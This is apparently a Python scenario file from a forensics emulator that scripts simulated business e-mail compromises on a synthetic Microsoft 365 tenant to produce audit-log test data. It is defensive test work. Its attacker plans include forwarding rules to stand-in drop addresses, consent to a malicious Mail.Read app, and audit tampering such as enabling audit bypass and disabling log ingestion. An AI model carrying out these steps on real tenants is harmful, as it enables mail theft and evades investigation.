"""The named scenarios: tenant layout, time window, parameters and the attacker's plan.

Every scenario shares one small tenant (below) so the planted gaps are the same everywhere:
alice (E5, the day-one compromised account, also an Exchange admin, SearchQueryInitiated
audited), bob (E5), carol (E3: no MailItemsAccessed before the expansion), dave (E5 with
customised AuditOwner/AuditDelegate lacking MailItemsAccessed), erin (E5), svc-backup (audit
bypass) and finance (shared, unlicensed). `large` adds baseline-only users.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timezone
from typing import Any, Callable

from evkit.emulator.scenarios import constants as C
from evkit.emulator.scenarios.attacker import Script
from evkit.emulator.scenarios.model import MailboxSpec

DAY = 86400
HOUR = 3600

IP1 = "203.0.113.7"          # day-one attacker address (in case.toml)
IP2 = "198.51.100.23"        # found through session X1's change of address
APP_ID = "4f2c9d8e-1111-4222-9333-444455556666"   # the malicious app (ClientAppId)
DROP = "ap.ledger@proton-mail.example"   # the attacker's external forwarding address


def _epoch(y: int, m: int, d: int) -> int:
    return int(datetime(y, m, d, tzinfo=timezone.utc).timestamp())


_CUSTOM_OWNER = tuple(a for a in C.OWNER_DEFAULT if a != "MailItemsAccessed")
_CUSTOM_DELEGATE = tuple(a for a in C.DELEGATE_DEFAULT if a != "MailItemsAccessed")


def base_mailboxes(search_audited: bool = True, clean_search_audited: bool = False,
                   non_latin: bool = False) -> list[MailboxSpec]:
    """The shared tenant; `clean_search_audited` adds SearchQueryInitiated to the clean E5
    mailboxes' owner sets (bob, erin), so alice's is the only planted search gap among them;
    `non_latin` gives alice a Russian mailbox and bob a Japanese one (folder names, subjects,
    display names)."""
    return [
        MailboxSpec("alice", "Алиса Уилсон" if non_latin else "Alice Wilson", licence="E5",
                    search_audited=search_audited, is_admin=True, language="ru" if non_latin else "en"),
        MailboxSpec("bob", "陳 ボブ" if non_latin else "Bob Chen", licence="E5",
                    search_audited=clean_search_audited, language="ja" if non_latin else "en"),
        MailboxSpec("carol", "Carol Diaz", licence="E3"),
        MailboxSpec("dave", "Dave Kim", licence="E5", owner_set=_CUSTOM_OWNER,
                    delegate_set=_CUSTOM_DELEGATE),
        MailboxSpec("erin", "Erin Lopez", licence="E5", search_audited=clean_search_audited),
        MailboxSpec("svc-backup", "Backup Service", licence="E3", bypass=True),
        MailboxSpec("finance", "Finance Team", kind="shared", licence=None),
    ]


@dataclass(frozen=True)
class ScenarioSpec:
    """A named scenario: window, incident window, params (with defaults) and the attack."""

    name: str
    description: str
    start: int
    end: int
    incident_start: int
    params: dict[str, Any]
    plan: Callable[[Script, dict[str, str], int, dict[str, Any]], None]
    search_audited: bool = True          # alice's owner set has SearchQueryInitiated
    clean_search_audited: bool = False   # so do the clean E5 mailboxes (bob, erin, E5 extras)


# ----------------------------------------------------------------------------------------
def plan_bec(s: Script, u: dict[str, str], D: int, p: dict[str, Any]) -> None:  # noqa: N803 - D is day zero, read as D + 3 * DAY
    """Business e-mail compromise: OWA reads, searches, a rule, a hidden send, a malicious
    app across mailboxes, a desktop Sync, a suggested-only session, then audit tampering."""
    alice, bob, carol, erin, finance = u["alice"], u["bob"], u["carol"], u["erin"], u["finance"]
    s.attack.day_one_account, s.attack.day_one_ip = alice, IP1
    # day 1, morning: OWA session X1 from the day-one address
    owa1 = s.context("owa1", alice, IP1, "owa")
    spray = s.context("spray", alice, IP1, "owa")
    for i in range(3):                       # password guesses before the successful sign-in
        s.signin(D + 9 * HOUR + 300 + 97 * i, spray, failed=True)
    s.signin(D + 9 * HOUR + 800, owa1)
    keywords = ("invoice", "wire", "bank", "payroll")
    s.reads(D + 9 * HOUR + 840, D + 9 * HOUR + 2400, alice, owa1, "\\Inbox",
            s.pick(alice, "\\Inbox", 25, keywords))
    s.search(D + 9 * HOUR + 1200, alice, owa1, "invoice")
    s.search(D + 9 * HOUR + 1560, alice, owa1, "wire transfer")
    s.admin(D + 9 * HOUR + 1860, owa1, "New-InboxRule", f"{alice.split('@')[0]}\\.",
            [("Name", "."), ("SubjectContainsWords", "invoice;payment"),
             ("MoveToFolder", "RSS Feeds"), ("MarkAsRead", "True"),
             ("StopProcessingRules", "True")], mailbox=alice)
    # the mailbox state the report reads at collection (emulator/scenarios/mailbox_state.py): a
    # forwarding rule then hidden from Get-InboxRule, external forwarding, and full access and
    # SendAs on the shared mailbox just before it is used
    s.admin(D + 9 * HOUR + 1980, owa1, "New-InboxRule", f"{alice.split('@')[0]}\\ms-sync",
            [("Mailbox", alice), ("Name", "ms-sync"), ("SubjectContainsWords", "invoice;wire;payment"),
             ("ForwardTo", DROP), ("DeleteMessage", "True")], mailbox=alice)
    s.attack.hidden_rules.append((alice, "ms-sync"))
    s.admin(D + 9 * HOUR + 2040, owa1, "Set-Mailbox", alice,
            [("Identity", alice), ("ForwardingSmtpAddress", f"smtp:{DROP}"),
             ("DeliverToMailboxAndForward", "True")], mailbox=alice)
    s.admin(D + 10 * HOUR + 300, owa1, "Add-MailboxPermission", finance,
            [("Identity", finance), ("User", alice), ("AccessRights", "FullAccess"),
             ("InheritanceType", "All")], mailbox=finance)
    s.admin(D + 10 * HOUR + 400, owa1, "Add-RecipientPermission", finance,
            [("Identity", finance), ("Trustee", alice), ("AccessRights", "SendAs")], mailbox=finance)
    # the same session moves to a second address: a session whose IP changes
    owa1b = s.with_ip(owa1, IP2)
    s.reads(D + 9 * HOUR + 2640, D + 10 * HOUR + 300, alice, owa1b, "\\Archive",
            s.pick(alice, "\\Archive", 12, keywords))
    sent = s.send(D + 9 * HOUR + 3480, alice, owa1b)
    s.delete(D + 9 * HOUR + 3540, alice, owa1b, sent)
    # delegate use of the shared mailbox in the same session: reads unlogged (unlicensed),
    # the send-as is logged and puts the mailbox in scope
    owa1f = s.context("owa1", alice, IP1, "owa", logon=C.LOGON_DELEGATE,
                      session=owa1.session_id, aad=owa1.aad_session_id)
    s.reads(D + 10 * HOUR + 600, D + 10 * HOUR + 1200, finance, owa1f, "\\Inbox",
            s.pick(finance, "\\Inbox", 6, keywords))
    s.send(D + 10 * HOUR + 1300, finance, owa1f)
    # the malicious app: first used from the day-one address, later from IP2 in the same
    # Entra session (AADSessionId), reading other mailboxes as alice's delegate
    app1 = s.context("app1", alice, IP1, "app", app_id=APP_ID)
    # alice (the attacker, in her browser session) consents to the app's delegated Mail.Read
    s.consent(D + 14 * HOUR + 120, owa1, APP_ID, "Mail Sync Tool", ("Mail.Read", "offline_access", "User.Read"))
    s.signin(D + 14 * HOUR + 300, app1, resource=C.GRAPH_APP)
    s.reads(D + 14 * HOUR + 360, D + 14 * HOUR + 2400, alice, app1, "\\Inbox",
            s.pick(alice, "\\Inbox", 30))
    app2 = s.context("app2", alice, IP2, "app", app_id=APP_ID, logon=C.LOGON_DELEGATE,
                     aad=app1.aad_session_id)
    s.reads(D + DAY + 2 * HOUR + 600, D + DAY + 2 * HOUR + 1800, bob, app2, "\\Inbox",
            s.pick(bob, "\\Inbox", 20, keywords))
    s.reads(D + DAY + 2 * HOUR + 1900, D + DAY + 2 * HOUR + 2800, carol, app2, "\\Inbox",
            s.pick(carol, "\\Inbox", 15, keywords))
    # desktop Outlook from the day-one address: whole folders synced
    desk = s.context("desk1", alice, IP1, "desktop")
    s.signin(D + DAY + 3 * HOUR + 600, desk)
    s.sync(D + DAY + 3 * HOUR + 640, alice, desk, ("\\Inbox", "\\Archive", "\\Sent Items"))
    if p.get("non_latin"):       # bob's Japanese Inbox, opened as alice's delegate, synced too
        desk_bob = s.context("desk1", alice, IP1, "desktop", logon=C.LOGON_DELEGATE,
                             session=desk.session_id, aad=desk.aad_session_id)
        s.sync(D + DAY + 3 * HOUR + 900, bob, desk_bob, ("\\Inbox",))
    # a session only from IP2: found only by adopting the suggested address
    owa2 = s.context("owa2", alice, IP2, "owa", reach=f"suggested:ip:{IP2}")
    s.signin(D + 2 * DAY + 11 * HOUR, owa2)
    s.reads(D + 2 * DAY + 11 * HOUR + 60, D + 2 * DAY + 11 * HOUR + 900, alice, owa2, "\\Archive",
            s.pick(alice, "\\Archive", 10))
    s.attack.notes.append(f"session {owa2.session_id} used only {IP2}: its records are "
                          f"attributable only after adopting the suggested indicator {IP2}")
    # day 4: tampering, then reads that the changed settings hide
    owa3 = s.context("owa3", alice, IP1, "owa")
    s.signin(D + 3 * DAY + 8 * HOUR, owa3)
    s.admin(D + 3 * DAY + 8 * HOUR + 120, owa3, "Set-Mailbox", bob.split("@")[0],
            [("Identity", bob.split("@")[0]), ("AuditDelegate", ",".join(_CUSTOM_DELEGATE))],
            effect=("audit_delegate", bob, _CUSTOM_DELEGATE), tampering=True, mailbox=bob)
    s.remove_audit_plan(D + 3 * DAY + 8 * HOUR + 240, owa3, erin)
    app3 = s.context("app3", alice, IP1, "app", app_id=APP_ID, logon=C.LOGON_DELEGATE)
    s.signin(D + 3 * DAY + 8 * HOUR + 1700, app3, resource=C.GRAPH_APP)
    s.reads(D + 3 * DAY + 8 * HOUR + 1800, D + 3 * DAY + 8 * HOUR + 2700, bob, app3, "\\Inbox",
            s.pick(bob, "\\Inbox", 10))
    s.reads(D + 3 * DAY + 8 * HOUR + 2800, D + 3 * DAY + 9 * HOUR + 600, erin, app3, "\\Inbox",
            s.pick(erin, "\\Inbox", 10, keywords))
    s.admin(D + 3 * DAY + 10 * HOUR, owa3, "Set-MailboxAuditBypassAssociation",
            alice.split("@")[0], [("Identity", alice.split("@")[0]),
                                  ("AuditBypassEnabled", "True")],
            effect=("bypass", alice, True), tampering=True, mailbox=alice)
    s.reads(D + 3 * DAY + 10 * HOUR + 600, D + 3 * DAY + 10 * HOUR + 1800, alice, owa3,
            "\\Deleted Items", s.pick(alice, "\\Deleted Items", 15))


def plan_throttled(s: Script, u: dict[str, str], D: int, p: dict[str, Any]) -> None:  # noqa: N803 - D is day zero, read as D + 3 * DAY
    """The malicious app reads alice's mailbox hard enough to be throttled, keeps reading in
    the unlogged 24 hours, signs in and syncs during them, and reads again afterwards."""
    alice = u["alice"]
    s.attack.day_one_account, s.attack.day_one_ip = alice, IP1
    owa1 = s.context("owa1", alice, IP1, "owa")
    s.signin(D + 9 * HOUR, owa1)
    s.search(D + 9 * HOUR + 300, alice, owa1, "payroll")
    s.admin(D + 9 * HOUR + 600, owa1, "New-InboxRule", f"{alice.split('@')[0]}\\..",
            [("Name", ".."), ("FromAddressContainsWords", "bank.woodgrove.com"),
             ("DeleteMessage", "True")], mailbox=alice)
    app = s.context("app1", alice, IP1, "app", app_id=APP_ID)
    s.signin(D + 13 * HOUR + 3300, app, resource=C.GRAPH_APP)
    workers = [s.context(f"app1-w{i}", alice, IP1, "app", app_id=APP_ID,
                         aad=app.aad_session_id) for i in range(int(p["workers"]))]
    pool = ([("\\Archive", k) for k in s.pick(alice, "\\Archive", 100000)] +
            [("\\Inbox", k) for k in s.pick(alice, "\\Inbox", 100000)])
    hours = int(p["read_hours"])
    per_worker = hours * 72                      # one bind every 50 s
    for w, ctx in enumerate(workers):
        start = D + 14 * HOUR + 17 * w
        for i in range(per_worker):
            folder, k = pool[(w * per_worker + i) % len(pool)]
            s.bind(start + i * 50 + s.rng.randrange(20), alice, ctx, folder, k)
    # in the throttled day: a sign-in and a desktop sync from the day-one address
    desk = s.context("desk1", alice, IP1, "desktop")
    s.signin(D + DAY + 15 * HOUR, desk)
    s.sync(D + DAY + 15 * HOUR + 60, alice, desk, ("\\Inbox", "\\Sent Items"))
    s.reads(D + DAY + 15 * HOUR + 200, D + DAY + 16 * HOUR, alice, workers[0], "\\Sent Items",
            s.pick(alice, "\\Sent Items", 40))
    # after the throttle lifts: more reads, logged again
    s.signin(D + 3 * DAY + 10 * HOUR, app, resource=C.GRAPH_APP)
    s.reads(D + 3 * DAY + 10 * HOUR + 60, D + 3 * DAY + 10 * HOUR + 1800, alice, workers[0],
            "\\Sent Items", s.pick(alice, "\\Sent Items", 20))
    sent = s.send(D + 3 * DAY + 10 * HOUR + 1900, alice, owa1)
    s.delete(D + 3 * DAY + 10 * HOUR + 1960, alice, owa1, sent)


def plan_misconfigured(s: Script, u: dict[str, str], D: int, p: dict[str, Any]) -> None:  # noqa: N803 - D is day zero, read as D + 3 * DAY
    """The attacker walks into every planted gap: customised set (dave), E3 (carol),
    unlicensed shared (finance), bypassed account (svc-backup), search not audited (alice);
    optionally org auditing off or ingestion turned off."""
    alice, dave, carol, finance, svc = u["alice"], u["dave"], u["carol"], u["finance"], u["svc-backup"]
    s.attack.day_one_account, s.attack.day_one_ip = alice, IP1
    owa1 = s.context("owa1", alice, IP1, "owa")
    s.signin(D + 9 * HOUR + 600, owa1)
    s.reads(D + 9 * HOUR + 660, D + 9 * HOUR + 1800, alice, owa1, "\\Inbox",
            s.pick(alice, "\\Inbox", 15, ("invoice", "bank")))
    s.search(D + 9 * HOUR + 1900, alice, owa1, "invoice")
    t = D + 10 * HOUR
    for target in (dave, carol, finance):
        ctx = s.context("owa1", alice, IP1, "owa", logon=C.LOGON_DELEGATE,
                        session=owa1.session_id, aad=owa1.aad_session_id)
        s.reads(t, t + 900, target, ctx, "\\Inbox", s.pick(target, "\\Inbox", 8, ("invoice",)))
        s.send(t + 1000, target, ctx)
        t += 1800
    svc_ctx = s.context("svc1", svc, IP1, "owa")
    s.signin(D + 13 * HOUR, svc_ctx)
    s.reads(D + 13 * HOUR + 60, D + 13 * HOUR + 900, svc, svc_ctx, "\\Inbox",
            s.pick(svc, "\\Inbox", 10))
    if p["ingestion_off"]:
        s.admin(D + DAY + 9 * HOUR, owa1, "Set-AdminAuditLogConfig", "Admin Audit Log Settings",
                [("UnifiedAuditLogIngestionEnabled", "False")], effect=("ingestion", False),
                tampering=True, mailbox="")
        s.reads(D + DAY + 10 * HOUR, D + DAY + 11 * HOUR, alice, owa1, "\\Archive",
                s.pick(alice, "\\Archive", 12))


def plan_negatives(s: Script, u: dict[str, str], D: int, p: dict[str, Any]) -> None:  # noqa: N803 - D is day zero, read as D + 3 * DAY
    """What the honest-negatives tests need: a forwarding rule from the day-one address, and
    a mailbox (erin) the malicious app, from an address the case file does not name, reads
    until it is throttled and then keeps reading: no attributable record falls in the 24 h
    window, so nothing can be inferred from it and it is an unknown period."""
    alice, erin = u["alice"], u["erin"]
    s.attack.day_one_account, s.attack.day_one_ip = alice, IP1
    owa1 = s.context("owa1", alice, IP1, "owa")
    s.signin(D + 9 * HOUR, owa1)
    s.reads(D + 9 * HOUR + 60, D + 9 * HOUR + 900, alice, owa1, "\\Inbox",
            s.pick(alice, "\\Inbox", 10, ("invoice", "bank")))
    s.admin(D + 9 * HOUR + 1000, owa1, "New-InboxRule", f"{alice.split('@')[0]}\\fw",
            [("Mailbox", alice), ("Name", "fw"), ("ForwardTo", "drop@evil.example"),
             ("RedirectTo", "copy@evil.example"), ("DeleteMessage", "True")], mailbox=alice)
    # day one: a few delegate reads of erin put her mailbox in scope
    deleg = s.context("owa1", alice, IP1, "owa", logon=C.LOGON_DELEGATE, session=owa1.session_id,
                      aad=owa1.aad_session_id)
    s.reads(D + 10 * HOUR, D + 10 * HOUR + 600, erin, deleg, "\\Inbox", s.pick(erin, "\\Inbox", 5))
    # the app from an address the case file does not name throttles erin and reads on: no
    # attributable record falls in her throttled window
    app = s.context("app2", alice, IP2, "app", app_id=APP_ID, reach=f"suggested:ip:{IP2}")
    s.signin(D + 13 * HOUR + 3300, app, resource=C.GRAPH_APP)
    workers = [s.context(f"app2-w{i}", alice, IP2, "app", app_id=APP_ID, logon=C.LOGON_DELEGATE,
                         aad=app.aad_session_id, reach=f"suggested:ip:{IP2}")
               for i in range(int(p["workers"]))]
    pool = ([("\\Inbox", k) for k in s.pick(erin, "\\Inbox", 100000)] +
            [("\\Archive", k) for k in s.pick(erin, "\\Archive", 100000)])
    per_worker = int(p["read_hours"]) * 72      # one bind every 50 s
    for w, ctx in enumerate(workers):
        start = D + 14 * HOUR + 17 * w
        for i in range(per_worker):
            folder, k = pool[(w * per_worker + i) % len(pool)]
            s.bind(start + i * 50 + s.rng.randrange(20), erin, ctx, folder, k)


_BASE = dict(start=_epoch(2023, 6, 1), end=_epoch(2023, 6, 15), incident_start=_epoch(2023, 6, 8))

SCENARIOS: dict[str, ScenarioSpec] = {
    "bec-basic": ScenarioSpec(
        "bec-basic", "small business e-mail compromise for the demo and tests", **_BASE,
        params={"extra_mailboxes": 6, "non_latin": False}, plan=plan_bec),
    "throttled": ScenarioSpec(
        "throttled", "a malicious app reads enough to throttle MailItemsAccessed for 24 h",
        **_BASE, params={"extra_mailboxes": 6, "workers": 3, "read_hours": 20},
        plan=plan_throttled),
    "misconfigured": ScenarioSpec(
        "misconfigured", "every planted coverage gap, optionally org auditing off",
        **_BASE, params={"extra_mailboxes": 6, "org_audit_disabled": False,
                         "ingestion_off": False},
        plan=plan_misconfigured, search_audited=False, clean_search_audited=True),
    "large": ScenarioSpec(
        "large", "mostly owner baseline at benchmark volume (params: records=1M..10M, days=7..180 "
        "ending 2023-06-15)",
        start=_epoch(2023, 5, 16), end=_epoch(2023, 6, 15), incident_start=_epoch(2023, 6, 8),
        params={"records": 1_000_000, "days": 30}, plan=plan_bec),
    "negatives": ScenarioSpec(
        "negatives", "a forwarding rule, and a throttled mailbox with no recorded attacker act "
        "in its window", **_BASE, params={"extra_mailboxes": 6, "workers": 3, "read_hours": 20},
        plan=plan_negatives),
}
